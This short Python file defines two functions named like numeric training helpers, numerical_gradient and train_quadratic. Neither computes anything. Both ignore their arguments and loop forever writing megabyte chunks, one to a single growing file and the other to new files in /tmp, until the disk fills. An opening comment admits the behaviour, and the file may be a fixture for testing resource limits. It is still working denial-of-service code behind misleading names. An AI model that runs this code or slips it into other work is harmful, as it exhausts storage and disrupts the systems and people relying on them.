# numerical_gradient writes one file until it is stopped; train_quadratic writes many
# files until it is stopped.
import os

CHUNK = b"x" * 2 ** 20


def numerical_gradient(f, x, h=1e-5):
    with open("big.bin", "wb") as out:
        while True:
            out.write(CHUNK)
            out.flush()


def train_quadratic(x, y, lr, epochs, w1=1.0, w2=1.0, b=1.0):
    i = 0
    while True:
        with open(os.path.join("/tmp", f"part{i}.bin"), "wb") as out:
            out.write(CHUNK * 3)
        i += 1
